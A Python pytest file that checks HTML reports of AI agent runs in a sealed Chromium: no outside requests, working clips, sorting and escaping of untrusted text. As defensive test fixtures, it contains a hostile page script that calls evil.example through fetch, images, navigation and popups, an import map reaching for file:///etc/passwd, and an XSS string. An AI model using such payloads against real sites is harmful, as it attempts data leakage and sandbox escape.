"""The report pages, opened in real Chromium: no outside request, no console error, the clip
plays, images load, sorting works, links resolve. Run folders are written by tests/runfolder.py
with a real PNG and a real H.264 clip."""

from __future__ import annotations

import asyncio
import json
import mimetypes
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urlsplit

import pytest
import pytest_asyncio

from runfolder import HOSTILE, make_clip, make_png, make_run
from showcase.browser.launch import launch_browser
from showcase.errors import UserError
from showcase.report import write_comparison, write_run_report
from showcase.report.load import load_run
from showcase.report.play import write_play
from showcase.report.rating import Rating, write_rating
from showcase.task import load_task

STEP_S = 30.0  # bound on every single browser call (the machine is shared: generous)
# The report scores no frame rate, so its pages need not be drawn by the renderer the frame-rate
# item is pinned to: the faster llvmpipe draws them (browser/launch.py).
RENDERER = "llvmpipe"


def open_to_others(folder: Path) -> Path:
    folder.chmod(folder.stat().st_mode | 0o055)
    return folder


@pytest.fixture(autouse=True)
def readable_by_the_browser(tmp_path_factory, tmp_path):
    """The checker's Chromium runs as its own unprivileged user (docs/boundary.md), as a reader's
    browser is not root either: pytest's folders (0700, root's) are opened up to it for reading."""
    base = tmp_path_factory.getbasetemp()
    for folder in (base.parent, base, tmp_path):
        open_to_others(folder)


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def sealed_browser():
    """One sealed browser for the module (each page gets a context of its own): a launch is
    seconds on a busy machine."""
    async with launch_browser(RENDERER) as b:
        yield b


@pytest_asyncio.fixture(loop_scope="module")
async def browser(sealed_browser):
    """The module's browser, left as found: a live page still drawing would slow the next test."""
    yield sealed_browser
    for ctx in sealed_browser.contexts:
        await asyncio.wait_for(ctx.close(), STEP_S)


in_module_loop = pytest.mark.asyncio(loop_scope="module")


@pytest.fixture(scope="module")
def clip(tmp_path_factory) -> Path:
    return make_clip(open_to_others(tmp_path_factory.mktemp("clip")) / "clip.mp4")


class Visit:
    """One page opened from disk, with everything it asked for and every error it showed."""

    def __init__(self, page, root: Path):
        self.page, self.root = page, root
        self.requests: list[str] = []
        self.outside: list[str] = []
        self.errors: list[str] = []


async def visit(browser, path: Path, root: Path) -> Visit:
    for folder in (root.parent.parent, root.parent):  # another pytest on this machine may have closed them again
        open_to_others(folder)
    ctx = await browser.new_context(viewport={"width": 1280, "height": 720})
    page = await ctx.new_page()
    v = Visit(page, root)

    async def route(r):
        url = r.request.url
        if url.startswith(("file://", "data:")):
            await r.continue_()
        else:
            v.outside.append(url)
            await r.abort()

    await ctx.route("**/*", route)
    page.on("request", lambda r: v.requests.append(r.url))
    page.on("console", lambda m: v.errors.append(f"console {m.type}: {m.text}") if m.type in ("error", "warning") else None)
    page.on("pageerror", lambda e: v.errors.append(f"pageerror: {e}"))
    page.on("requestfailed", lambda r: v.errors.append(f"failed: {r.url} {r.failure}"))
    await asyncio.wait_for(page.goto(path.resolve().as_uri(), wait_until="load"), STEP_S)
    return v


def local_path(url: str) -> Path:
    parts = urlsplit(url)
    assert parts.scheme == "file", url
    return Path(unquote(parts.path))


async def assert_clean(v: Visit) -> None:
    """Nothing outside, every request a file inside the test's folder, no error."""
    await asyncio.sleep(0.3)
    assert v.outside == []
    for url in v.requests:
        if url.startswith("data:"):
            continue
        p = local_path(url)
        assert p.is_relative_to(v.root) and p.is_file(), url
    assert v.errors == []


async def images_loaded(page) -> list[tuple[str, int]]:
    """(src, naturalWidth) of every image, lazy ones made eager first."""
    return await asyncio.wait_for(
        page.evaluate(
            """() => Promise.all([...document.images].map(i => { i.loading = 'eager';
                 return i.decode().then(() => [i.getAttribute('src'), i.naturalWidth], () => [i.getAttribute('src'), 0]); }))"""
        ),
        STEP_S,
    )


async def video_advances(page, selector: str) -> tuple[float, int]:
    """The clip plays on its own (autoplay, muted) once scrolled into view (Chromium pauses muted
    autoplay off screen): currentTime moves past 0.3 s."""
    await asyncio.wait_for(page.locator(selector).scroll_into_view_if_needed(), STEP_S)
    sel = json.dumps(selector)
    # Read the figures in the same evaluation that sees them: the clip loops, so a later read may be ~0.
    handle = await asyncio.wait_for(
        page.wait_for_function(
            f"() => {{ const v = document.querySelector({sel}); return v && v.currentTime > 0.3 && [v.currentTime, v.videoWidth]; }}",
            timeout=STEP_S * 1000,
        ),
        STEP_S + 5,
    )
    t, width = await asyncio.wait_for(handle.json_value(), STEP_S)
    return t, width


# ---- one run ----------------------------------------------------------------------------------


async def wait_ready_in_frame(page) -> bool:
    """The live page's own window.ready, read inside its frame (bounded: software GL is slow)."""
    await asyncio.wait_for(page.click("#play-button"), STEP_S)
    frame_el = await asyncio.wait_for(page.wait_for_selector("#playbox iframe"), STEP_S)
    frame = await asyncio.wait_for(frame_el.content_frame(), STEP_S)
    handle = await asyncio.wait_for(frame.wait_for_function("() => window.ready === true", timeout=STEP_S * 2000), STEP_S * 2 + 5)
    return await handle.json_value(), frame


@in_module_loop
async def test_run_report_in_chromium(tmp_path, clip, browser):
    run = make_run(tmp_path, "run one", clip_source=clip, world_title=HOSTILE, n_versions=5, failed_versions=(2,),
                   pictures=True, real_last_page=True, foreign=8, shot_calls=3)
    write_rating(run, 7.5, "windmill turns; " + HOSTILE, who="reviewer")
    report = write_run_report(run)
    elsewhere = write_run_report(run, tmp_path / "published" / "one.html")
    assert report == run / "report.html" and elsewhere.is_file()
    info = json.loads((run / "run-info.json").read_text())
    stats = json.loads((run / "gate-stats.json").read_text())
    check = json.loads((run / "check.json").read_text())

    v = await visit(browser, elsewhere, tmp_path)  # a copy outside the run folder links back into it
    imgs = await images_loaded(v.page)
    assert len(imgs) == 6 and all(w > 0 for _, w in imgs), imgs  # the screenshot and each version's picture
    await assert_clean(v)

    v = await visit(browser, report, tmp_path)
    page = v.page
    imgs = await images_loaded(page)
    assert len(imgs) == 6 and all(w > 0 for _, w in imgs), imgs
    t, width = await video_advances(page, "#clip")
    assert t > 0.3 and width == 320

    # what a person reads equals what the files say
    assert await page.inner_text("#run-summary") == f"{info['summary_run']} {info['summary_versions']}"
    assert await page.inner_text("#check-summary") == check["summary"]
    assert await page.inner_text("#world-title") == HOSTILE  # shown as text, never run
    assert HOSTILE in await page.inner_text("#rating-note")
    assert (await page.inner_text("#rating-score")).startswith("7.5")
    note = await page.inner_text("#requests-note")
    assert f"({info['requests']} in all)" in note and f"The {stats['tool_requests']} quick load checks" in note
    assert info["requests"] == 12 and stats["tool_requests"] == 3  # shot.sh calls are not requests
    assert f"each of the {info['requests']} timed requests" in await page.inner_text("#tokens-note")
    rows = await page.eval_on_selector_all("#items tbody tr", "rs => rs.map(r => [r.cells[0].innerText, r.cells[2].innerText])")
    assert rows == [[it["id"], f"{it['points']:g} / {it['max_points']:g}"] for it in check["items"]]
    setup = await page.inner_text("#setup")
    assert "test-model-7b at http://127.0.0.1:8000/v1" in setup and "hard stop at 120 min, finish-now from 90 min" in setup
    facts = await page.inner_text("#timeline-facts")
    assert f"first sent at {stats['finish_now_first_s'] / 60:.1f} min" in facts and "ended at 92.3 min (done)" in facts
    assert "Hard stop: not reached" in facts
    assert await page.locator("#foreign tbody tr").count() == 5  # the top five; three more folded away
    assert "proc0" in await page.inner_text("#foreign") and "3 more" in await page.inner_text("body")
    assert "its sha256 is the contract's" in await page.inner_text("#prompt summary")
    # each version: its own picture, its verdict, the request after which it appeared
    assert await page.get_attribute("#v5", "class") == "version chosen"
    v2 = await page.inner_text("#v2")
    assert "did not load cleanly" in v2 and "THREE is not defined" in v2 and "after request r0004" in v2
    assert "the load check's picture of this version" in v2
    assert await page.locator("svg[aria-label='tokens over time'] path").count() == 3
    raw = await page.eval_on_selector_all("#raw a", "as => as.map(a => a.href)")
    assert all(local_path(h).is_file() for h in raw) and any(h.endswith("rating.json") for h in raw)
    await assert_clean(v)

    # play it: the chosen page runs in its frame, from files beside the report, and nothing else
    before = len(v.requests)
    ready, frame = await wait_ready_in_frame(page)
    assert ready is True
    played = [local_path(u) for u in v.requests[before:] if not u.startswith("data:")]
    assert played == [run / "report-play" / "game.html"], v.requests[before:]
    await assert_clean(v)
    # the page cannot reach the report: its frame has no origin of its own
    assert await asyncio.wait_for(frame.evaluate(
        "() => { try { return parent.document.title } catch (e) { return 'blocked' } }"), STEP_S) == "blocked"

    # printed: a few clean pages, without the live page or the clip
    await asyncio.wait_for(page.emulate_media(media="print"), STEP_S)
    assert not await page.is_visible("#play") and not await page.is_visible("#clip")
    assert await page.is_visible("#screenshot") and await page.is_visible("#items")
    pdf = await asyncio.wait_for(page.pdf(format="A4"), STEP_S * 2)
    pages = len(re.findall(rb"/Type\s*/Page[^s]", pdf))
    assert 2 <= pages <= 6, pages

    await plays_from_a_static_host(browser, tmp_path, "run%20one/report.html")
    await hostile_page_stays_in_its_frame(browser, tmp_path)


HOSTILE_PAGE = """<!doctype html><meta http-equiv="refresh" content="1;url=https://evil.example/refresh">
<script>window.ready = true; fetch("https://evil.example/fetch").catch(() => {}); new Image().src = "https://evil.example/img";
try { top.location = "https://evil.example/top" } catch (e) {}
setTimeout(() => { location.href = "https://evil.example/nav" }, 300); window.open("https://evil.example/popup");</script>"""


async def hostile_page_stays_in_its_frame(browser, root: Path) -> None:
    """A chosen page that fetches, loads an image, navigates itself, its top and a popup: none of it
    leaves, the report stays where it is, and no window opens."""
    run = make_run(root, "hostile", clip_source=None, n_versions=1, failed_versions=())
    next((run / "versions").glob("*.html")).write_text(HOSTILE_PAGE)
    report = write_run_report(run)
    v = await visit(browser, report, root)
    await asyncio.wait_for(v.page.click("#play-button"), STEP_S)

    def tried(what: str) -> bool:
        return any(what in e for e in v.errors)

    # wait until the page has made each attempt (the browser says so as it refuses it), bounded
    attempts = ("Framing 'https://evil.example/'", "evil.example/fetch", "evil.example/popup", "evil.example/img")
    deadline = asyncio.get_running_loop().time() + STEP_S
    while not all(map(tried, attempts)) and asyncio.get_running_loop().time() < deadline:
        await asyncio.sleep(0.1)
    assert all(map(tried, attempts)), v.errors
    assert v.outside == [] and v.page.url == report.as_uri() and len(v.page.context.pages) == 1
    await v.page.context.close()


async def plays_from_a_static_host(browser, root: Path, rel: str) -> None:
    """Served as a static host serves it (one https origin answering the folder's files; the
    sealed browser has no route to this machine's ports), the live page runs the same way."""
    origin = "https://reports.example/"
    ctx = await browser.new_context(viewport={"width": 1280, "height": 720})
    page = await ctx.new_page()
    outside, errors = [], []

    async def static_host(r):
        url = r.request.url
        path = root / unquote(urlsplit(url).path).lstrip("/")
        if url.startswith(origin) and path.resolve().is_relative_to(root) and path.is_file():
            await r.fulfill(body=path.read_bytes(), content_type=mimetypes.guess_type(path.name)[0] or "application/octet-stream")
        elif url.startswith("data:"):
            await r.continue_()
        else:
            outside.append(url)
            await r.abort()

    await ctx.route("**/*", static_host)
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.on("pageerror", lambda e: errors.append(str(e)))
    await asyncio.wait_for(page.goto(origin + rel, wait_until="load"), STEP_S)
    ready, _ = await wait_ready_in_frame(page)
    assert ready is True and errors == [] and outside == []
    await ctx.close()


@in_module_loop
async def test_killed_run_gets_a_page_that_says_so(tmp_path, clip, browser):
    run = make_run(tmp_path, "killed", clip_source=clip, finalized=False, n_versions=4)
    (run / "gate-stats.json").write_text('{"requests": 12, "errors": 0, "blo')  # cut mid-write
    report = write_run_report(run)
    v = await visit(browser, report, tmp_path)
    page = v.page
    banner = await page.inner_text("#unfinished")
    assert "not finalized" in banner and "check.json is missing" in banner
    assert "gate-stats.json could not be read" in await page.inner_text("#problems")
    assert "versions.jsonl: 1 line could not be read" in await page.inner_text("#problems")
    assert await page.locator("#clip").count() == 0 and await page.locator("#screenshot").count() == 0
    assert "no clip recorded" in await page.inner_text("body")
    # the four versions are still shown; the last one's load check was cut off
    assert await page.locator("#versions .version").count() == 4
    assert "not checked" in await page.inner_text("#v4")
    assert "last record is from" in await page.inner_text("#run-summary")
    assert await images_loaded(page) == []
    await assert_clean(v)


# ---- several runs ------------------------------------------------------------------------------


@in_module_loop
async def test_comparison_sorts_links_and_plays(tmp_path, clip, browser):
    runs = [
        make_run(tmp_path / "runs", "alpha", clip_source=clip, model="m-beta", points={"5": 0.0}),  # 9
        make_run(tmp_path / "runs", "bravo", clip_source=clip, model="m-alpha", finalized=False),  # no score
        make_run(tmp_path / "runs", "charlie", clip_source=clip, model="m-gamma", points={"5": 0.5, "9": 0, "10": 0}),  # 7.5
        make_run(tmp_path / "runs", "delta", clip_source=clip, model="m-delta", points={}, requests=30, minutes=120.0),  # 10
    ]
    write_rating(runs[0], 6.0, HOSTILE, who="reviewer")
    write_rating(runs[3], 8.5, "best", who="reviewer")
    check = json.loads((runs[2] / "check.json").read_text())
    check["rubric_version"] = "0.9"  # scored by an older rubric: marked, not mixed in silently
    (runs[2] / "check.json").write_text(json.dumps(check))
    out = write_comparison(runs, tmp_path / "site" / "compare.html")
    v = await visit(browser, out, tmp_path)
    page = v.page

    async def order() -> list[str]:
        return await asyncio.wait_for(page.eval_on_selector_all("#runs tbody tr", "rs => rs.map(r => r.dataset.run)"), STEP_S)

    async def column(name: str) -> list[str]:
        i = await page.eval_on_selector_all("#runs thead th", f"hs => hs.findIndex(h => h.textContent.trim() === {json.dumps(name)})")
        assert i >= 0, name
        return await page.eval_on_selector_all("#runs tbody tr", f"rs => rs.map(r => r.cells[{i}].innerText.trim())")

    assert await order() == ["alpha", "bravo", "charlie", "delta"]
    # the figures are the files': totals, an item's points, requests, rating
    assert await column("check") == ["9", "–", "7.5", "10"]
    assert await column("5") == ["0", "–", "0.5", "1"]
    assert await column("requests") == [str(json.loads((r / "gate-stats.json").read_text())["requests"]) for r in runs]
    assert await column("rating") == ["6", "–", "–", "8.5"]
    assert await column("parts / triangles") == ["50,269 / 609,760", "–", "50,269 / 609,760", "50,269 / 609,760"]
    assert "0.9" in await page.inner_text("#runs tr[data-run=charlie]") and await page.locator("#rubric-warning").count() == 1
    assert "0.9" not in await page.inner_text("#runs tr[data-run=alpha]")

    await asyncio.wait_for(page.click("#runs th:text-is('check')"), STEP_S)
    assert await order() == ["charlie", "alpha", "delta", "bravo"]  # ascending, unscored last
    await asyncio.wait_for(page.click("#runs th:text-is('check')"), STEP_S)
    assert await order() == ["delta", "alpha", "charlie", "bravo"]  # descending, unscored still last
    await asyncio.wait_for(page.click("#runs th:text-is('model')"), STEP_S)
    assert await order() == ["bravo", "alpha", "delta", "charlie"]  # m-alpha, m-beta, m-delta, m-gamma
    await asyncio.wait_for(page.click("#runs th:text-is('rating')"), STEP_S)
    assert (await order())[:2] == ["alpha", "delta"]  # 6, 8.5, then the unrated

    imgs = await images_loaded(page)
    assert len(imgs) == 3 and all(w > 0 for _, w in imgs), imgs  # the unfinished run has no screenshot
    assert await page.locator("video[src]").count() == 0  # no clip loads before it is asked for
    await asyncio.wait_for(page.click("#runs tr[data-run=delta] button.thumbbtn"), STEP_S)
    t, width = await video_advances(page, "#clipvideo")
    assert t > 0.3 and width == 320 and await page.inner_text("#clipname") == "delta"
    await asyncio.wait_for(page.click("#clipclose"), STEP_S)

    links = await page.eval_on_selector_all("#runs a.runlink", "as => as.map(a => a.href)")
    assert sorted(local_path(h) for h in links) == sorted(r / "report.html" for r in runs)
    await assert_clean(v)

    # following a link lands on that run's own page, which works too
    await asyncio.wait_for(page.click("#runs a.runlink:has-text('charlie')"), STEP_S)
    await asyncio.wait_for(page.wait_for_url("**/charlie/report.html"), STEP_S)
    assert "Browser check 7.5 out of 10" in await page.inner_text("#check-summary")
    await assert_clean(v)


# ---- without a browser ---------------------------------------------------------------------------


def test_untrusted_text_is_escaped(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None, world_title=HOSTILE)
    html = write_run_report(run).read_text()
    assert HOSTILE not in html and "<script>console.error" not in html
    assert "&lt;script&gt;console.error(&#34;xss&#34;)&lt;/script&gt;" in html


def test_versions_fold_by_n_and_the_choice_is_marked(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None, n_versions=3, failed_versions=(3,))
    view = load_run(run)
    assert [v.n for v in view.versions] == [1, 2, 3]
    assert [v.loaded for v in view.versions] == [True, True, False]  # the load_checked line won
    assert [v.n for v in view.versions if v.chosen] == [2]  # last that loads
    assert view.items_passed == "11/11" and view.score == 10.0
    assert view.token_points[-1].prompt == view.prompt_tokens
    # the moment finish-now was first sent is the gate's (detail.at_s), not when the supervisor logged it
    assert view.finish_now_s == json.loads((run / "gate-stats.json").read_text())["finish_now_first_s"]
    assert view.ended_how == "done" and view.limit_s == 7200


def test_bad_input_is_a_clear_user_error(tmp_path):
    with pytest.raises(UserError, match="no such run folder"):
        write_run_report(tmp_path / "nope")
    (tmp_path / "empty").mkdir()
    with pytest.raises(UserError, match="not a run folder"):
        write_run_report(tmp_path / "empty")
    run = make_run(tmp_path, "r", clip_source=None)
    with pytest.raises(UserError, match=r"\.html"):
        write_run_report(run, tmp_path / "out.txt")
    assert not (run / "report.html").exists()


def test_cli_writes_reports_and_fails_in_one_line(tmp_path):
    a = make_run(tmp_path, "a", clip_source=None)
    b = make_run(tmp_path, "b", clip_source=None, finalized=False)
    cmd = [sys.executable, "-m", "showcase.cli", "report"]
    one = subprocess.run(cmd + [str(a), "--json"], capture_output=True, text=True, timeout=60)
    assert one.returncode == 0, one.stderr
    assert json.loads(one.stdout) == {"report": str(a / "report.html")}
    both = subprocess.run(cmd + [str(a), str(b), "-o", str(tmp_path / "cmp.html"), "--json"], capture_output=True, text=True, timeout=60)
    assert both.returncode == 0, both.stderr
    assert json.loads(both.stdout)["comparison"] == str(tmp_path / "cmp.html")
    assert (b / "report.html").is_file() and (tmp_path / "cmp.html").is_file()
    bad = subprocess.run(cmd + [str(tmp_path / "missing")], capture_output=True, text=True, timeout=60)
    # one message, exit 2, no traceback (rich may wrap a long path onto a second line)
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert bad.stderr.startswith("error: ") and "no such run folder" in " ".join(bad.stderr.split())


def test_comparison_warns_when_contracts_differ(tmp_path):
    a = make_run(tmp_path, "a", clip_source=None)
    b = make_run(tmp_path, "b", clip_source=None)
    contract = json.loads((b / "contract.json").read_text())
    contract["limits"]["hard_stop_s"] = 3600
    (b / "contract.json").write_text(json.dumps(contract))
    html = write_comparison([a, b], tmp_path / "cmp.html").read_text()
    assert 'id="contract-warning"' in html and "limits.hard_stop_s" in html
    html = write_comparison([a, a], tmp_path / "same.html").read_text()
    assert 'id="contract-warning"' not in html and 'id="contract-same"' in html


def test_files_of_unexpected_shape_still_give_a_page(tmp_path):
    """A file that does not match its writer's model is named on the page and left out, never
    guessed at; the rest of the run still shows, and nothing crashes."""
    run = make_run(tmp_path, "odd", clip_source=None, n_versions=3, failed_versions=())
    (run / "contract.json").write_text("[1, 2, 3]")
    check = json.loads((run / "check.json").read_text())
    check["score"] = check.pop("total")  # a field renamed: the reader must not go looking for it
    (run / "check.json").write_text(json.dumps(check))
    with open(run / "versions.jsonl", "a") as f:
        f.write('{"n": 4, "event": "seen", "t_s": "soon"}\n[1]\n')
    with open(run / "events.jsonl", "a") as f:
        f.write('{"event": 5}\n{"t_s": 7200, "at": "2026-11-30T10:00:00+00:00", "event": "hard_stop"}\n')
    view = load_run(run)
    html = write_run_report(run).read_text()
    assert view.contract is None and view.model is None and view.check is None and view.score is None
    assert "contract.json does not match its model" in html and "The setup was not recorded (no contract.json)" in html
    assert "check.json does not match its model (total: Field required)" in html
    assert "versions.jsonl: 2 lines could not be read" in html and "events.jsonl: 1 line could not be read" in html
    assert [v.n for v in view.versions] == [1, 2, 3] and view.chosen.n == 3
    assert view.hard_stop_s == 7200 and view.ended_how == "done" and "hard_stop" in html
    assert "The agent ran 92.3 minutes" in html  # run-info.json is whole: its sentences still show


def test_runs_with_the_same_folder_name_are_told_apart(tmp_path):
    a = make_run(tmp_path / "x", "run", clip_source=None, points={"10": 0})
    b = make_run(tmp_path / "y", "run", clip_source=None)
    html = write_comparison([a, b], tmp_path / "cmp.html").read_text()
    assert 'data-run="x/run"' in html and 'data-run="y/run"' in html
    assert 'title="lost: controls 0/1"' in html


def test_versions_without_their_own_screenshot_borrow_the_agents_shot(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None, n_versions=4, agent_shots=2)
    view = load_run(run)
    assert [Path(s.path).name for s in view.agent_shots] == ["shot-001.png", "shot-002.png"]
    # shot k was taken while version k was the current one; versions 3 and 4 had no shot
    assert [v.thumb for v in view.versions] == ["work/shots/shot-001.png", "work/shots/shot-002.png", None, None]
    assert "no picture of its own: the agent's shot.sh screenshot at" in view.versions[0].thumb_note
    html = write_run_report(run).read_text()
    assert html.count('class="thumb borrowed"') == 2 and 'id="agent-shots"' in html
    assert html.count("no picture of its own") == 2


def test_a_versions_own_picture_wins_and_a_picture_off_the_run_is_not_linked(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None, n_versions=3, pictures=True, agent_shots=2)
    outside = make_png(tmp_path / "elsewhere.png", (64, 36), 1)
    (run / "versions" / "link.png").symlink_to(outside)
    with open(run / "versions.jsonl", "a") as f:  # later load checks naming pictures the report must not follow
        for n, picture in ((2, "../elsewhere.png"), (3, "versions/link.png")):
            f.write(json.dumps({"n": n, "event": "load_checked", "t_s": 1.0, "sha256": "x", "size": 1, "last_request_id": None,
                                "file": "x.html", "loaded_without_errors": True, "picture": picture}) + "\n")
    view = load_run(run)
    assert view.versions[0].thumb == "versions/001.png" and view.versions[0].own_picture
    # neither is linked: version 2 falls back to the agent's shot taken meanwhile, version 3 has none
    assert [(v.thumb, v.own_picture) for v in view.versions[1:]] == [("work/shots/shot-002.png", False), (None, False)]
    assert "elsewhere.png" not in write_run_report(run).read_text()


def test_hard_stop_is_shown_only_when_it_happened(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None)
    stats = json.loads((run / "gate-stats.json").read_text())
    stats["hard_stopped"] = True  # the gate closes after an agent that ended by itself, too
    (run / "gate-stats.json").write_text(json.dumps(stats))
    html = write_run_report(run).read_text()
    assert 'id="hard-stop">not reached' in html and 'class="mark-stop"' not in html
    with open(run / "events.jsonl", "a") as f:
        f.write(json.dumps({"t_s": 7200, "at": "2026-11-30T10:00:00+00:00", "event": "hard_stop", "detail": {"at_s": 7200}}) + "\n")
    html = write_run_report(run).read_text()
    assert 'id="hard-stop">at 120.0 min' in html and 'class="mark-stop"' in html


def test_the_live_page_ships_only_what_it_imports(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None, n_versions=2, failed_versions=(), real_last_page=True)
    write_run_report(run)
    play = (run / "report-play" / "game.html").read_text()
    # first of all, before any byte of the page: a policy that allows no request
    assert play.index("Content-Security-Policy") < play.index("Voxel Valley") and "connect-src data: blob:" in play
    shipped = re.findall(r'__showcaseModules \|\|= \{\}\)\["([^"]+)"\]', play)
    npm = "https://cdn.jsdelivr.net/npm/"
    assert sorted(shipped) == [f"{npm}simplex-noise@4.0.3/dist/esm/simplex-noise.js", f"{npm}three@0.170.0/build/three.module.js",
                               f"{npm}three@0.170.0/examples/jsm/controls/OrbitControls.js"]  # no tween.js, no cannon-es
    assert "<script type=\"importmap\">\n{" not in play  # the page's own map is replaced by the loader's
    assert list(run.glob("report-play/*")) == [run / "report-play" / "game.html"]


def test_the_live_page_takes_nothing_but_the_cache(tmp_path):
    """An import map pointing anywhere else ships nothing: the page's request fails in its frame."""
    page = tmp_path / "game.html"
    page.write_text('<script type="importmap">{"imports": {"three": "https://evil.example/three.js", "x/": "file:///etc/"}}'
                    '</script><script type="module">import "three"; import "x/passwd"; import "../../secret.js";</script>')
    play = write_play(page, tmp_path / "play", load_task())
    assert play.files == [] and play.missing == ["https://evil.example/three.js", "file:///etc/passwd"]
    text = play.page.read_text()
    assert "__showcaseModules ||=" not in text and "passwd" in text  # the page itself is kept as it was


def test_rate_stores_a_rating_the_pages_show(tmp_path):
    run = make_run(tmp_path, "r", clip_source=None)
    cmd = [sys.executable, "-m", "showcase.cli", "rate", str(run)]
    ok = subprocess.run(cmd + ["--score", "7.5", "--note", HOSTILE, "--who", "me", "--json"], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stderr
    rating = Rating.model_validate_json((run / "rating.json").read_text())
    assert (rating.score, rating.note, rating.who) == (7.5, HOSTILE, "me") and json.loads(ok.stdout)["score"] == 7.5
    assert rating.page_sha256 == json.loads((run / "final-choice.json").read_text())["sha256"]
    html = (run / "report.html").read_text()  # refreshed by rate
    assert "7.5" in html and HOSTILE not in html and "&lt;script&gt;console.error" in html
    r = subprocess.run(cmd + ["--score", "11"], capture_output=True, text=True, timeout=60)
    assert r.returncode == 2 and r.stderr.startswith("error: ") and "0 to 10" in r.stderr and "Traceback" not in r.stderr
    with pytest.raises(UserError, match="0 to 10"):
        write_rating(run, -1)
    assert Rating.model_validate_json((run / "rating.json").read_text()).score == 7.5  # the bad ones lost nothing
    missing = subprocess.run([sys.executable, "-m", "showcase.cli", "rate", str(tmp_path / "nope"), "--score", "5"],
                             capture_output=True, text=True, timeout=60)
    assert missing.returncode == 2 and "no such run folder" in missing.stderr
    schema = subprocess.run([sys.executable, "-m", "showcase.cli", "schema", "rating"], capture_output=True, text=True, timeout=60)
    assert schema.returncode == 0 and set(json.loads(schema.stdout)["properties"]) >= {"who", "when", "score", "note"}
